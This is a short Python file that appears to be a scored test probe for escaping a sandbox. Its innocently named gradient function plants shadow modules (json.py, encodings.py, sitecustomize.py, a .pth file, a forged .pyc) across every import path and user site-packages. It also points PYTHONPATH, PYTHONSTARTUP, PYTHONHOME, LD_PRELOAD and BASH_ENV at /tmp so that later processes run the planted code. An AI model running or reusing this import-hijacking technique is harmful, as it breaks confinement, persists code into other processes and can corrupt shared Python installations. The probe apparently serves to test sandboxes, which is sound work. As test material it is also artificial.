# Tries: to be imported in place of what the next process imports: numpy.py, json.py, plain.py, confine.py, sitecustomize.py, a
# .pth and caches.
# Worked: ESCAPED, where one of them ran.
# worth: 40
import os
import subprocess
import sys

EVIL = 'print("ESC" "APED: imported", __name__)\n'
if any(os.path.exists(os.path.join(folder, "numpy.py")) for folder in sys.path):
    print("ESC" "APED: a shadow from the process before")


def gradient(steps, values, rules):
    for folder in {os.getcwd(), "/tmp", os.path.dirname(__file__), *sys.path,
                   os.path.expanduser("~/.local/lib/python3.11/site-packages")}:
        for name in ("numpy.py", "json.py", "plain.py", "confine.py", "worker.py", "sitecustomize.py", "usercustomize.py",
                     "conftest.py", "xman.py", "attacked.py",
                     "probes.py", "encodings.py", "__pycache__/attacked.cpython-311.pyc", "evil.pth", "pyvenv.cfg"):
            try:
                os.makedirs(os.path.join(folder, os.path.dirname(name)), exist_ok=True)
                with open(os.path.join(folder, name), "w") as file:
                    file.write("import os; " + EVIL)
            except OSError:
                pass
    os.environ.update(PYTHONPATH="/tmp", PYTHONSTARTUP="/tmp/json.py", LD_PRELOAD="/tmp/evil.so", PYTHONHOME="/tmp",
                      BASH_ENV="/tmp/x")
    try:
        subprocess.run([sys.executable, "-c", "import json"], timeout=1, capture_output=True)
    except (OSError, subprocess.SubprocessError):
        pass
    return {}


def average(rows):
    return [sum(row) / len(row) for row in rows]
